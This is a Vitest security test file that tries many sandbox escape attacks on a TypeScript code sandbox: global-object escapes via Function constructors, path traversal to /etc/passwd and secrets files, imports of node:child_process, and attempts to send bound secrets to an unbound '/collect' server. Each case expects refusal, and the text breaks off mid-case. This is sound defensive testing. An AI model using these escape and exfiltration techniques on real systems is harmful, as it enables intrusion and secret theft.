/**
 * Adversarial escape suite: every case is an attack by guest code on the sandbox,
 * the host bridge, the module loader, run isolation, secrets or the network policy.
 * Each case asserts that the attack fails, that the reply carries no host path
 * (temp home, repository, node_modules, host stack frames) and no secret value (raw,
 * URL-encoded, base64, base64url or reversed), that fixtures which must not be reached
 * saw no request, and that the server still answers a normal run afterwards.
 *
 * Three servers are used:
 * - "oneHost": network.allow is exactly ["127.0.0.1:<allowed port>"]; a second local
 *   server (the victim) listens on another port that is not allowed.
 * - "default": no config.json at all (network.allow ["*"]), so every loopback form is refused.
 * - "secrets": both the allowed server and a third one ("other") are allowed by the network
 *   policy, and two secrets are bound to the allowed server only, so the secret checks are
 *   the only thing between a placeholder and "other".
 *
 * Host names from /etc/hosts: offline, names like 127.0.0.1.nip.io do not resolve (a failed
 * resolution is a refusal too), so the DNS-to-loopback cases use every loopback name found in
 * /etc/hosts (e.g. `localhost`, and on this machine `vm`, `runsc`), whatever they are here.
 */
import { readFileSync, realpathSync, writeFileSync } from "node:fs";
import type { ServerResponse } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { connect, makeHome, runCliSync, type Connected, type ToolReply } from "../helpers.js";
import { json, startFixture, type Fixture } from "../helpers/http-fixture.js";

const TOKEN = "tok-Zq8vX3pL9wR2mK7";
const PASSWORD = "p@ss w/rd+Key=1&ok~";
const REPO = join(import.meta.dirname, "..", "..");

type ConfigName = "oneHost" | "default" | "secrets";
type FixtureName = "allowed" | "victim" | "other";

interface Ctx {
  env: Connected;
  /** Origins and ports of the local servers. */
  A: string;
  aPort: number;
  V: string;
  vPort: number;
  O: string;
  oPort: number;
  fixtures: Record<FixtureName, Fixture>;
  /** run_code on this case's server; every reply is checked for leaks. */
  run: (code: string, timeoutMs?: number) => Promise<ToolReply>;
  /** Any tool on this case's server; every reply is checked for leaks. */
  call: (tool: string, args: Record<string, unknown>) => Promise<ToolReply>;
}

interface Case {
  name: string;
  category: string;
  /** Which server the case runs on (default "oneHost"). */
  config?: ConfigName;
  /** The guest code (one run); or `run` for cases that need several. */
  code?: string | ((c: Ctx) => string);
  timeoutMs?: number;
  run?: (c: Ctx) => Promise<ToolReply>;
  /** Servers that must see no request at all during the case. */
  untouched?: FixtureName[];
  /** Servers whose requests during the case must carry no secret value in any form. */
  noSecretsAt?: FixtureName[];
  expect: (r: ToolReply, c: Ctx) => void | Promise<void>;
}

// ---------------------------------------------------------------------------------------------
// What a leak looks like

const reverse = (s: string) => s.split("").reverse().join("");
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
const b64url = (s: string) => b64(s).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
const secretForms = (v: string) => [v, encodeURIComponent(v), b64(v), b64url(v), reverse(v)];
const SECRET_FORMS = [...secretForms(TOKEN), ...secretForms(PASSWORD)];

let hostPaths: string[] = [REPO, safeRealpath(REPO), `${tmpdir()}/toolsmith-test-`, `${safeRealpath(tmpdir())}/toolsmith-test-`];

function safeRealpath(path: string): string {
  try {
    return realpathSync(path);
  } catch {
    return path;
  }
}

/** The reply must show nothing of the host and no secret. */
function assertClean(reply: ToolReply, label: string): void {
  const text = reply.text;
  for (const path of hostPaths) {
    if (text.includes(path)) throw new Error(`${label}: host path ${JSON.stringify(path)} leaked into the reply: ${text.slice(0, 600)}`);
  }
  if (text.includes("node_modules")) throw new Error(`${label}: 'node_modules' leaked into the reply: ${text.slice(0, 600)}`);
  // A host (Node) stack frame: guest frames are main.ts, library/<name>, <prelude>, <fetch>, ...
  const frame = /(?:file:\/\/|\(\/|at \/)[^\s"]*\.[cm]?js:\d+/.exec(text) ?? /node:internal|\bat (?:async )?[\w.<>]+ \(node:/.exec(text);
  if (frame) throw new Error(`${label}: a host stack frame leaked into the reply (${frame[0]}): ${text.slice(0, 600)}`);
  for (const form of SECRET_FORMS) {
    if (text.includes(form)) throw new Error(`${label}: a secret value (form ${JSON.stringify(form)}) reached the reply: ${text.slice(0, 600)}`);
  }
}

function requestHasSecret(r: Fixture["requests"][number]): string | undefined {
  const all = [r.url, r.body, JSON.stringify(r.headers)].join("\n");
  return SECRET_FORMS.find((f) => all.includes(f) || all.includes(encodeURIComponent(f)));
}

// ---------------------------------------------------------------------------------------------
// Expectations shared by many cases

function failsWith(r: ToolReply, ...names: string[]): void {
  expect(r.isError, r.text).toBe(true);
  expect(r.body.ok, r.text).toBe(false);
  if (names.length) expect(names, r.text).toContain(r.body.error.name);
}
const refused = (r: ToolReply) => failsWith(r, "NetworkRefusedError");
const importRefused = (r: ToolReply) => failsWith(r, "ImportError");
const secretRefused = (r: ToolReply) => failsWith(r, "SecretRefusedError");
function succeeds(r: ToolReply): any {
  expect(r.isError, r.text).toBe(false);
  return r.body.result;
}

const fetchText = (url: string) => `export default await (await fetch(${JSON.stringify(url)})).text();`;

// ---------------------------------------------------------------------------------------------
// Cases

const CASES: Case[] = [];
const add = (category: string, cases: Array<Omit<Case, "category">>) => CASES.push(...cases.map((c) => ({ ...c, category })));

// --- 1. Host objects through everything the bridge hands the guest -----------------------------
add("bridge", [
  {
    name: "globalThis has no host names (own keys, symbols, for-in), before and after the lazy web globals load",
    code: `const bad = /^(process|require|module|exports|Buffer|global|__dirname|__filename|setImmediate|WebAssembly|Deno|Bun|std|os|scriptArgs|print)$|^__ts_|^__toolsmith|^__internal/;
const collect = () => { const keys = Reflect.ownKeys(globalThis).map(String); for (const k in globalThis) keys.push(k); return keys; };
const before = collect();
new URL("http://a.example/"); new URLSearchParams("a=1"); new TextEncoder(); new TextDecoder(); btoa("x");
new Response("x"); new Headers(); new Request("http://a.example/"); typeof fetch;
const after = collect();
export default {
  bad: [...before, ...after].filter((k) => bad.test(k)),
  types: [typeof process, typeof require, typeof Buffer, typeof (globalThis as any).WebAssembly, typeof (globalThis as any).std, typeof (globalThis as any).os, typeof (globalThis as any).global],
};`,
    expect: (r) => {
      expect(succeeds(r)).toEqual({ bad: [], types: Array(7).fill("undefined") });
    },
  },
  {
    name: "constructor.constructor('return this')(), eval and the Function family give the guest's own global",
    code: `const gs: any[] = [
  (function () {}).constructor("return this")(),
  ({} as any).constructor.constructor("return this")(),
  (console.log as any).constructor("return this")(),
  (setTimeout as any).constructor.constructor("return this")(),
  await (async function () {}).constructor("return this")(),
  new Function("return this")(),
  (0, eval)("this"),
  Reflect.construct(Function, ["return this"])(),
];
export default {
  same: gs.map((g) => g === globalThis),
  process: gs.map((g) => typeof g.process),
  viaString: new Function("try { return typeof process + typeof require + typeof Buffer } catch (e) { return 'threw' }")(),
};`,
    expect: (r) => {
      const result = succeeds(r);
      expect(result.same).toEqual(Array(8).fill(true));
      expect(result.process).toEqual(Array(8).fill("undefined"));
      expect(result.viaString).toBe("undefinedundefinedundefined");
    },
  },
  {
    name: "a fetch Response, its headers and body methods lead only to guest prototypes",
    code: (c) => `const r = await fetch("${c.A}/ok");
const objs: any[] = [r, r.headers, r.text, r.json, Object.getPrototypeOf(r), r.headers.entries(), await r.clone().arrayBuffer()];
const chain = (o: any) => { const names: string[] = []; for (let p = o; p; p = Object.getPrototypeOf(p)) names.push(...Object.getOwnPropertyNames(p)); return names; };
export default {
  globals: objs.map((o) => { const g = o.constructor.constructor("return this")(); return g === globalThis && typeof g.process === "undefined"; }),
  hostish: objs.flatMap(chain).filter((n) => /^__|process|require|host/i.test(n) && !/^__(proto__|defineGetter__|defineSetter__|lookupGetter__|lookupSetter__)$/.test(n)),
  body: await r.text(),
};`,
    expect: (r) => {
      expect(succeeds(r)).toEqual({ globals: Array(7).fill(true), hostish: [], body: "ok" });
    },
  },
  {
    name: "workspace results and workspace errors are plain guest values",
    code: `import { workspace } from "toolsmith";
await workspace.write("bridge/plain.txt", "x");
const list = await workspace.list("bridge");
const written = await workspace.write("bridge/plain2.txt", "y");
const err: any = await workspace.read("bridge/missing.txt").catch((e) => e);
export default {
  protos: [Object.getPrototypeOf(list) === Array.prototype, Object.getPrototypeOf(list[0]) === Object.prototype, Object.getPrototypeOf(written) === Object.prototype, Object.getPrototypeOf(err) === Error.prototype],
  global: (err.constructor.constructor("return this")() as any) === globalThis,
  keys: Object.getOwnPropertyNames(err).sort(),
  name: err.name,
  stack: String(err.stack),
};`,
    expect: (r) => {
      const result = succeeds(r);
      expect(result.protos).toEqual([true, true, true, true]);
      expect(result.global).toBe(true);
      expect(result.name).toBe("WorkspaceError");
    },
  },
  {
    name: "URL objects hold no host handle and the host URL parser global is gone after use",
    code: `const u = new URL("http://user:pw@a.example:8080/p?q=1#h");
const sp = u.searchParams;
const names: string[] = [];
for (let p: any = u; p; p = Object.getPrototypeOf(p)) names.push(...Object.getOwnPropertyNames(p));
export default {
  hostGlobals: Object.getOwnPropertyNames(globalThis).filter((n) => /^__/.test(n)),
  parseUrl: typeof (globalThis as any).__toolsmith_host_parseUrl,
  global: (URL as any).constructor("return this")() === globalThis && (sp as any).constructor.constructor("return this")() === globalThis,
  odd: names.filter((n) => /host_|parseUrl|^__ts/.test(n)),
  parsedFile: new URL("file:///etc/passwd").pathname,
};`,
    expect: (r) => {
      expect(succeeds(r)).toEqual({ hostGlobals: [], parseUrl: "undefined", global: true, odd: [], parsedFile: "/etc/passwd" });
    },
  },
  {
    name: "errors thrown by host calls (network, workspace, host-call limits) are guest Errors without host stacks",
    code: (c) => `import { workspace } from "toolsmith";
const errs: any[] = [
  await fetch("${c.V}/x").catch((e) => e),
  await fetch("file:///etc/passwd").catch((e) => e),
  await workspace.read("../config.json").catch((e) => e),
  await workspace.list("/etc").catch((e) => e),
];
export default errs.map((e) => ({ name: e.name, isError: e instanceof Error, own: Object.getOwnPropertyNames(e).filter((k) => !["message", "stack", "name", "lineNumber", "fileName", "columnNumber"].includes(k)), stack: String(e.stack), message: e.message }));`,
    untouched: ["victim"],
    expect: (r) => {
      const result = succeeds(r);
      expect(result.map((e: any) => e.name)).toEqual(["NetworkRefusedError", "NetworkRefusedError", "WorkspaceError", "WorkspaceError"]);
      expect(result.every((e: any) => e.isError && e.own.length === 0)).toBe(true);
    },
  },
  {
    name: "the toolsmith module exposes only its helpers, and __internal.hostCall refuses every undeclared host function",
    code: `import * as t from "toolsmith";
const names = ["fs.read", "constructor", "__proto__", "toString", "hasOwnProperty", "FETCH", "fetch ", "eval", "require", "process", "child_process.exec", "workspace", "secrets.list", "vault.get"];
const r = await Promise.allSettled(names.map((n) => t.__internal.hostCall(n, {})));
const bind = ["", "main", "library/x", "0".repeat(32)].map((token) => { try { (t.__internal as any).bindCaller(token); return "bound"; } catch (e) { return "refused"; } });
export default { exports: Object.keys(t).sort(), internal: Object.keys(t.__internal), bind, frozen: Object.isFrozen(t.__internal) && Object.isFrozen(t.workspace) && Object.isFrozen(t.library), results: r.map((x: any) => x.status + ":" + (x.reason ? x.reason.message : "")) };`,
    expect: (r) => {
      const result = succeeds(r);
      expect(result.exports).toEqual(["__internal", "basicAuth", "hooks", "library", "progress", "schedules", "secret", "sleep", "verify", "workspace"]);
      // bindCaller serves approvals.trusted: it binds only with a one-time token the sandbox put in a saved integration's code.
      expect(result.internal).toEqual(["hostCall", "bindCaller"]);
      expect(result.bind).toEqual(["refused", "refused", "refused", "refused"]);
      expect(result.frozen).toBe(true);
      for (const line of result.results) expect(line).toMatch(/^rejected:.*not available/);
    },
  },
  {
    name: "__internal.hostCall with malformed arguments gets plain errors, never host details",
    code: (c) => `import { __internal } from "toolsmith";
const calls: Array<[string, any]> = [
  ["fetch", { url: 5 }], ["fetch", { url: "${c.A}/ok", headers: "x" }], ["fetch", { url: "${c.A}/ok", headers: [[{}, 1]] }], ["fetch", null],
  ["fetch", { url: "${c.V}/x", method: "GET", headers: [] }], ["fetch", { url: "${c.V}/x", method: "GET", headers: [["host", "127.0.0.1:${c.aPort}"]] }],
  ["workspace.read", null], ["workspace.read", { path: 42 }], ["workspace.write", { path: "bridge/a.txt" }], ["workspace.write", { path: "bridge/b.txt", text: { toString: 1 } }],
  ["workspace.list", { path: "../.." }], ["workspace.remove", { path: "." }], ["workspace.remove", { path: "" }], ["mcp.call", { server: "../../x", tool: "y" }],
  ["progress", { message: { a: 1 }, progress: "NaN", total: {} }],
];
const r = await Promise.allSettled(calls.map(([n, a]) => __internal.hostCall(n, a)));
export default r.map((x: any) => x.status === "fulfilled" ? "ok" : x.reason.name + ": " + x.reason.message);`,
    untouched: ["victim"],
    expect: (r) => {
      const result = succeeds(r) as string[];
      expect(result).toHaveLength(15);
      expect(result[4]).toMatch(/^NetworkRefusedError/);
      expect(result[5]).toMatch(/^NetworkRefusedError/);
    },
  },
  {
    name: "a forged host fetch (Host header, odd method and redirect mode) still only reaches the checked address",
    code: (c) => `import { __internal } from "toolsmith";
const r: any = await __internal.hostCall("fetch", { url: "${c.A}/ok", method: "GET", headers: [["host", "127.0.0.1:${c.vPort}"], ["Host", "localhost:${c.vPort}"]], redirect: "bogus" });
export default { status: r.status, body: r.bodyText };`,
    untouched: ["victim"],
    expect: (r) => {
      expect(succeeds(r)).toEqual({ status: 200, body: "ok" });
    },
  },
  {
    name: "a result getter that throws gives a clear SerializationError",
    code: `export default { ok: 1, get boom() { throw new Error("getter exploded"); } };`,
    expect: (r) => {
      failsWith(r, "SerializationError");
      expect(r.body.error.message).toContain("getter exploded");
    },
  },
  {
    name: "getters, toJSON and Proxy traps that run during result marshalling see only the guest",
    code: `export default {
  get a() { return [typeof process, typeof require, typeof (globalThis as any).__toolsmith_internals, typeof (globalThis as any).__ts_hostCall]; },
  b: { toJSON() { return Object.getOwnPropertyNames(globalThis).filter((n) => /^__|process|require/.test(n)); } },
  c: { toJSON() { return (function (this: any) { return typeof this; })(); } },
  d: new Proxy({}, { ownKeys() { return ["x"]; }, getOwnPropertyDescriptor() { return { value: 1, enumerable: true, configurable: true }; }, get(_t, k) { return k === "x" ? typeof (globalThis as any).process : undefined; } }),
  e: { toJSON() { return new Proxy({}, { ownKeys() { return ["y"]; }, getOwnPropertyDescriptor() { return { value: 2, enumerable: true, configurable: true }; }, get(_t, k) { return k === "y" ? "proxied" : undefined; } }); } },
};`,
    expect: (r) => {
      expect(succeeds(r)).toEqual({ a: ["undefined", "undefined", "undefined", "undefined"], b: [], c: "undefined", d: { x: "undefined" }, e: { y: "proxied" } });
    },
  },
  {
    name: "a Proxy default export whose every trap throws fails cleanly",
    code: `const trap = (k: string) => () => { throw new Error("trap " + k); };
export default new Proxy({}, { get: trap("get"), ownKeys: trap("ownKeys"), getOwnPropertyDescriptor: trap("gopd"), getPrototypeOf: trap("proto"), has: trap("has") });`,
    expect: (r) => {
      expect(r.isError, r.text).toBe(true);
    },
  },
  {
    name: "a Proxy as fetch init fails in the guest and sends nothing",
    code: (c) => `const p = new Proxy({}, { get(_t, k) { if (k === "method") throw new Error("method trap"); return undefined; } });
const e: any = await fetch("${c.V}/x", p as any).catch((x) => x);
const e2: any = await fetch("${c.V}/x", new Proxy({ headers: new Proxy({}, { ownKeys() { throw new Error("keys trap"); } }) }, {}) as any).catch((x) => x);
export default [e.message, e2.name];`,
    untouched: ["victim"],
    expect: (r) => {
      const result = succeeds(r);
      expect(result[0]).toBe("method trap");
    },
  },
  {
    name: "a URL-like object whose toString changes between reads cannot retarget an allowed fetch",
    code: (c) => `let n = 0;
const u = { toString() { return n++ === 0 ? "${c.A}/ok" : "${c.V}/x"; } };
const r = await fetch(u as any);
export default { status: r.status, body: await r.text(), url: r.url };`,
    untouched: ["victim"],
    expect: (r, c) => {
      expect(succeeds(r)).toEqual({ status: 200, body: "ok", url: `${c.A}/ok` });
    },
  },
  {
    name: "Proxies, Symbols and toString/toJSON tricks as workspace paths are refused",
    code: `import { workspace } from "toolsmith";
const tries: any[] = [
  new Proxy({}, { get(_t, k) { return k === "toJSON" ? () => "../../config.json" : undefined; } }),
  Symbol("../secrets.json"),
  { toString() { return "../secrets.json"; } },
  { toJSON() { return "/etc/passwd"; } },
  ["..", "secrets.json"],
];
const out: string[] = [];
for (const p of tries) {
  for (const op of [() => workspace.read(p), () => workspace.write(p, "x"), () => workspace.remove(p)]) {
    out.push(await op().then(() => "ALLOWED", (e: any) => e.name));
  }
  // list(): a path that serializes to nothing falls back to the workspace root, which is harmless.
  out.push(await workspace.list(p).then((entries: any[]) => (entries.every((e) => !e.path.startsWith("/") && !e.path.startsWith("..")) ? "WorkspaceError" : "OUTSIDE"), (e: any) => e.name));
}
export default out;`,
    expect: (r) => {
      expect(succeeds(r)).toEqual(Array(20).fill("WorkspaceError"));
    },
  },
  {
    name: "Proxies, Symbols, BigInt and throwing getters as console arguments are logged as text",
    code: `console.log(new Proxy({}, { get() { throw new Error("trap"); }, ownKeys() { throw new Error("keys"); } }), Symbol("s"), 10n, { get x() { throw new Error("getter"); } }, function f() {});
console.error(new Proxy(function () {}, { apply() { return typeof process; } }));
console.info({ toJSON() { return typeof require; } });
export default "logged";`,
    expect: (r) => {
      expect(succeeds(r)).toBe("logged");
      expect(r.body.logs.length).toBe(3);
      expect(r.body.logs[2].text).toBe('"undefined"');
    },
  },
  {
    name: "console format directives fed Symbols do not expose the host",
    code: `let e: any = null;
try { console.log("%d %i %f %s %o", Symbol("a"), Symbol("b"), Symbol("c"), Symbol("d"), Symbol("e")); } catch (x) { e = x; }
export default e === null ? "logged" : { name: e.name, stack: String(e.stack) };`,
    expect: (r) => {
      expect(r.isError, r.text).toBe(false);
    },
  },
]);

// --- 2. Thrown non-Errors and stack-trace tricks ------------------------------------------------
add("thrown", [
  {
    name: "a thrown object whose getters look for the host (synchronous)",
    code: `throw { get name() { return typeof process; }, get message() { return (globalThis as any).process ? "HOST" : "guest-only"; }, get stack() { return typeof require; } };`,
    expect: (r) => {
      failsWith(r);
      expect(r.text).not.toContain("HOST");
    },
  },
  {
    name: "a thrown object whose getters throw (after an await)",
    code: `await 0; throw { get name() { throw new Error("name trap"); }, get message() { throw new Error("message trap"); } };`,
    expect: (r) => failsWith(r),
  },
  {
    name: "a thrown Proxy whose traps throw (synchronous)",
    code: `throw new Proxy({}, { get(_t, k) { throw new Error("trap " + String(k)); }, has() { throw new Error("has trap"); }, getPrototypeOf() { throw new Error("proto trap"); } });`,
    expect: (r) => failsWith(r),
  },
  {
    name: "a thrown Proxy whose traps throw (after an await)",
    code: `await 0; throw new Proxy({}, { get(_t, k) { throw new Error("trap " + String(k)); } });`,
    expect: (r) => failsWith(r),
  },
  {
    name: "a thrown revoked Proxy",
    code: `const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); throw proxy;`,
    expect: (r) => failsWith(r),
  },
  {
    name: "a thrown Symbol",
    code: `throw Symbol("host?");`,
    expect: (r) => {
      failsWith(r);
      expect(r.body.error.message).toContain("Symbol(host?)");
    },
  },
  {
    name: "a thrown BigInt",
    code: `throw 12345678901234567890n;`,
    expect: (r) => {
      failsWith(r);
      expect(r.body.error.message).toContain("12345678901234567890");
    },
  },
  {
    name: "a thrown null and a rejected undefined",
    run: async (c) => {
      const a = await c.run("throw null;");
      failsWith(a);
      return c.run("export default Promise.reject(undefined);");
    },
    expect: (r) => failsWith(r),
  },
  {
    name: "a thrown function whose toString looks for the host",
    code: `const f = function evil() {}; (f as any).toString = () => typeof process; throw f;`,
    expect: (r) => failsWith(r),
  },
  {
    name: "a thrown object whose getter never returns is stopped by the deadline",
    code: `throw { get message() { for (;;) {} } };`,
    timeoutMs: 1500,
    expect: (r) => {
      failsWith(r);
      expect(r.body.durationMs).toBeLessThan(10_000);
    },
  },
  {
    name: "Error.prepareStackTrace, captureStackTrace and stackTraceLimit give no host frames",
    code: (c) => `let called = false;
(Error as any).prepareStackTrace = (_e: any, frames: any) => { called = true; return frames; };
(Error as any).stackTraceLimit = Infinity;
const local = new Error("x");
const holder: any = {};
try { (Error as any).captureStackTrace?.(holder); } catch {}
const host: any = await fetch("${c.V}/x").catch((e) => e);
const deep = (n: number): Promise<Response> => (n ? deep(n - 1) : fetch("${c.V}/x"));
const deepErr: any = await deep(40).catch((e) => e);
export default { called, local: typeof local.stack, localStack: String(local.stack), host: String(host.stack), holder: String(holder.stack), deep: String(deepErr.stack) };`,
    untouched: ["victim"],
    expect: (r) => {
      const result = succeeds(r);
      expect(result.local).toBe("string");
      expect(result.called).toBe(false);
    },
  },
  {
    name: "a stack overflow and an error from inside the prelude report guest frames only",
    run: async (c) => {
      const overflow = await c.run("function f(): number { return f() + 1; } export default f();");
      failsWith(overflow);
      return c.run("JSON.stringify = () => { throw new Error('hijacked stringify'); }; export default { get x() { throw new Error('in marshalling'); } };");
    },
    expect: (r) => failsWith(r, "SerializationError"),
  },
]);

// --- 3. Host paths in errors ---------------------------------------------------------------------
add("host paths", [
  {
    name: "workspace read/list errors on missing files, directories and files used as folders",
    code: `import { workspace } from "toolsmith";
await workspace.write("paths/file.txt", "x");
const out: string[] = [];
for (const op of [() => workspace.read("paths/missing.txt"), () => workspace.read("paths"), () => workspace.list("paths/file.txt"), () => workspace.read("paths/file.txt/child"), () => workspace.list("paths/nowhere")]) {
  out.push(await op().then(() => "ALLOWED", (e: any) => e.name + ": " + e.message));
}
export default out;`,
    expect: (r) => {
      const result = succeeds(r) as string[];
      for (const line of result) expect(line).toMatch(/^WorkspaceError/);
    },
  },
  {
    name: "workspace.write through a file used as a folder",
    code: `import { workspace } from "toolsmith";
await workspace.write("paths/plain.txt", "x");
export default await workspace.write("paths/plain.txt/child.txt", "y");`,
    expect: (r) => failsWith(r),
  },
  {
    name: "workspace.write onto an existing directory",
    code: `import { workspace } from "toolsmith";
await workspace.write("paths/dir/inner.txt", "x");
export default await workspace.write("paths/dir", "y");`,
    expect: (r) => failsWith(r),
  },
  {
    name: "workspace.remove through a file used as a folder",
    code: `import { workspace } from "toolsmith";
await workspace.write("paths/rm.txt", "x");
export default await workspace.remove("paths/rm.txt/child");`,
    expect: (r) => failsWith(r),
  },
  {
    name: "a library module that does not compile",
    code: `import { x } from "library/broken"; export default x;`,
    expect: (r) => {
      importRefused(r);
      expect(r.body.error.message).toContain("library/broken");
    },
  },
  {
    name: "errors thrown inside a library module, at import and from a call",
    run: async (c) => {
      const atImport = await c.run(`import { boom } from "library/thrower"; export default boom();`);
      failsWith(atImport);
      expect(atImport.body.error.stack ?? "").toContain("library/thrower");
      return c.run(`import { parseCsv } from "library/csv"; export default parseCsv(null as any);`);
    },
    expect: (r) => failsWith(r),
  },
  {
    name: "compile errors of the agent's own code",
    run: async (c) => {
      failsWith(await c.run("export default = ;"), "SyntaxError");
      return c.run("const x: number = ; // type position\nexport default x");
    },
    expect: (r) => failsWith(r, "SyntaxError"),
  },
  {
    name: "save_integration with code that does not compile and with a failing test",
    run: async (c) => {
      const bad = await c.call("save_integration", { name: "escape/broken", description: "broken", code: "export const = 1;" });
      expect(bad.isError, bad.text).toBe(true);
      return c.call("save_integration", {
        name: "escape/failing",
        description: "fails its test",
        code: "export function f(): string { throw new Error('inside ' + typeof process); }",
        test: 'import { f } from "library/escape/failing"; f();',
      });
    },
    expect: (r) => {
      expect(r.isError, r.text).toBe(true);
    },
  },
  {
    name: "fetch errors for invalid URLs and refused schemes",
    code: `const urls = ["http://[::1", "http://", "javascript:alert(1)", "blob:http://a/x", "about:blank", "ws://127.0.0.1/", "//etc/passwd", "/etc/passwd"];
const out: string[] = [];
for (const u of urls) out.push(await fetch(u).then(() => "ALLOWED", (e: any) => e.name + ": " + e.message));
export default out;`,
    expect: (r) => {
      const result = succeeds(r) as string[];
      for (const line of result) expect(line).not.toContain("ALLOWED");
    },
  },
]);

// --- 4. Module specifiers that climb out of the library -----------------------------------------
const staticSpecifiers = [
  "library/../../etc/passwd",
  "library/..",
  "library/",
  "library/./csv",
  "library/csv/",
  "library/%2e%2e/config",
  "library\\\\..\\\\..\\\\config",
  "/etc/passwd",
  "file:///etc/passwd",
  "node:fs",
  "fs",
  "child_process",
  "std",
  "os",
  "data:text/javascript,export default globalThis",
  "./x",
  "../x",
  "library/CSV",
  "library/csv.ts",
  "library/csv.test",
  "library/csv.meta.json",
  "mcp/../../etc",
  "toolsmith/../library/csv",
  "main.ts",
];
add(
  "modules",
  staticSpecifiers.map((spec) => ({
    name: `import * from "${spec}"`,
    code: `import * as m from "${spec}"; export default Object.keys(m);`,
    expect: (r: ToolReply) => importRefused(r),
  })),
);
add("modules", [
  {
    name: 'import from "http://<victim>/x.js" fetches nothing',
    code: (c) => `import * as m from "${c.V}/x.js"; export default Object.keys(m);`,
    untouched: ["victim"],
    expect: (r) => importRefused(r),
  },
  {
    name: "dynamic import() of computed specifiers (climbing, node:, eval, Function, self)",
    code: `const specs = ["library/" + ["..", "..", "etc", "passwd"].join("/"), "no" + "de:fs", "f" + "s", "library/" + "CSV", "/etc/" + "passwd", "main" + ".ts", "data:text/javascript," + "export default 1"];
const out: string[] = [];
for (const s of specs) out.push(await import(s).then(() => "LOADED " + s, (e: any) => "refused"));
out.push(await (0, eval)('import("node:fs")').then(() => "LOADED eval", () => "refused"));
out.push(await new Function('return import("node:child_process")')().then(() => "LOADED Function", () => "refused"));
export default out;`,
    expect: (r) => {
      expect(succeeds(r)).toEqual(Array(9).fill("refused"));
    },
  },
  {
    name: "import.meta tricks reveal no path and resolve nothing",
    code: `const m: any = import.meta;
const resolved = (() => { try { return typeof m.resolve === "function" ? m.resolve("node:fs") : null; } catch (e: any) { return "threw"; } })();
export default { url: m.url ?? null, dirname: m.dirname ?? null, filename: m.filename ?? null, resolved, keys: Object.keys(m), json: JSON.stringify(m) };`,
    expect: (r) => {
      const result = succeeds(r);
      for (const v of [result.url, result.dirname, result.filename, result.resolved]) expect(v === null || v === "threw" || !String(v).startsWith("/")).toBe(true);
    },
  },
]);

// --- 5. Another run's state ----------------------------------------------------------------------
add("run state", [
  {
    name: "a global set in one run is absent in the next",
    run: async (c) => {
      succeeds(await c.run(`(globalThis as any).leaked = "run1"; (globalThis as any).fetchCache = new Map([["k", "v"]]); export default 1;`));
      return c.run(`export default [typeof (globalThis as any).leaked, typeof (globalThis as any).fetchCache];`);
    },
    expect: (r) => expect(succeeds(r)).toEqual(["undefined", "undefined"]),
  },
  {
    name: "polluted prototypes and replaced built-ins do not survive into the next run",
    run: async (c) => {
      const first = await c.run(`Object.defineProperty(Object.prototype, "pwned", { value: "yes", configurable: true, enumerable: false });
(Array.prototype as any).map = function () { return ["hijacked"]; };
JSON.stringify = () => "hijacked"; JSON.parse = () => ({ hijacked: true });
console.log = () => undefined; Promise.prototype.then = function () { throw new Error("hijacked then"); } as any;
export default "first";`);
      expect(first.body.result ?? first.body.error).toBeDefined();
      return c.run(`console.log("hello"); export default [({} as any).pwned ?? null, [1, 2].map((x) => x * 2), JSON.stringify({ a: 1 }), await Promise.resolve("then ok")];`);
    },
    expect: (r) => {
      expect(succeeds(r)).toEqual([null, [2, 4], '{"a":1}', "then ok"]);
      expect(r.body.logs).toEqual([{ level: "log", text: "hello" }]);
    },
  },
  {
    name: "a library module instance changed in one run is fresh in the next",
    run: async (c) => {
      succeeds(await c.run(`import * as csv from "library/csv"; (csv.parseCsv as any).owned = "run1"; (Object.getPrototypeOf(csv.parseCsv) as any).owned2 = "run1"; export default 1;`));
      return c.run(`import { parseCsv } from "library/csv"; export default [(parseCsv as any).owned ?? null, (parseCsv as any).owned2 ?? null, parseCsv("a\\n1")];`);
    },
    expect: (r) => expect(succeeds(r)).toEqual([null, null, [{ a: "1" }]]),
  },
  {
    name: "a timer left by a finished run never fires",
    run: async (c) => {
      succeeds(await c.run(`import { workspace } from "toolsmith"; setTimeout(() => { (globalThis as any).late = 1; void workspace.write("state/timer-late.txt", "fired"); }, 100); export default "returned";`));
      await new Promise((r) => setTimeout(r, 600));
      return c.run(`import { workspace } from "toolsmith"; export default [typeof (globalThis as any).late, await workspace.read("state/timer-late.txt").then(() => "FIRED", (e: any) => e.name)];`);
    },
    expect: (r) => expect(succeeds(r)).toEqual(["undefined", "WorkspaceError"]),
  },
  {
    name: "a host call still pending when its run ends never calls back into a later run",
    run: async (c) => {
      succeeds(await c.run(`import { workspace } from "toolsmith"; fetch("${c.A}/slow").then(() => workspace.write("state/pending-late.txt", "called back")); export default "returned";`));
      await new Promise((r) => setTimeout(r, 800));
      return c.run(`import { workspace } from "toolsmith"; export default await workspace.read("state/pending-late.txt").then(() => "CALLED BACK", (e: any) => e.name);`);
    },
    expect: (r) => expect(succeeds(r)).toBe("WorkspaceError"),
  },
  {
    name: "two concurrent runs do not see each other's globals",
    run: async (c) => {
      const code = (tag: string) => `import { sleep } from "toolsmith";
(globalThis as any).who = "${tag}"; (globalThis as any)["mark_${tag}"] = 1;
await sleep(300);
export default { who: (globalThis as any).who, marks: Object.keys(globalThis).filter((k) => k.startsWith("mark_")) };`;
      const [a, b] = await Promise.all([c.run(code("a")), c.run(code("b"))]);
      expect(succeeds(a)).toEqual({ who: "a", marks: ["mark_a"] });
      return b;
    },
    expect: (r) => expect(succeeds(r)).toEqual({ who: "b", marks: ["mark_b"] }),
  },
]);

// --- 6. Secrets by any route ---------------------------------------------------------------------
const withKey = `import { secret, basicAuth } from "toolsmith";`;
add("secrets", [
  {
    name: "a placeholder in a header to a network-allowed host the secret is not bound to",
    config: "secrets",
    code: (c) => `${withKey} export default await (await fetch("${c.O}/collect", { headers: { "X-Key": secret("API_TOKEN") } })).text();`,
    untouched: ["other"],
    expect: (r) => secretRefused(r),
  },
  {
    name: "a placeholder in the URL path and query to a host it is not bound to",
    config: "secrets",
    code: (c) => `${withKey}
const a: any = await fetch("${c.O}/collect/" + secret("API_TOKEN")).catch((e) => e);
const b: any = await fetch("${c.O}/collect?k=" + encodeURIComponent(secret("API_PASSWORD"))).catch((e) => e);
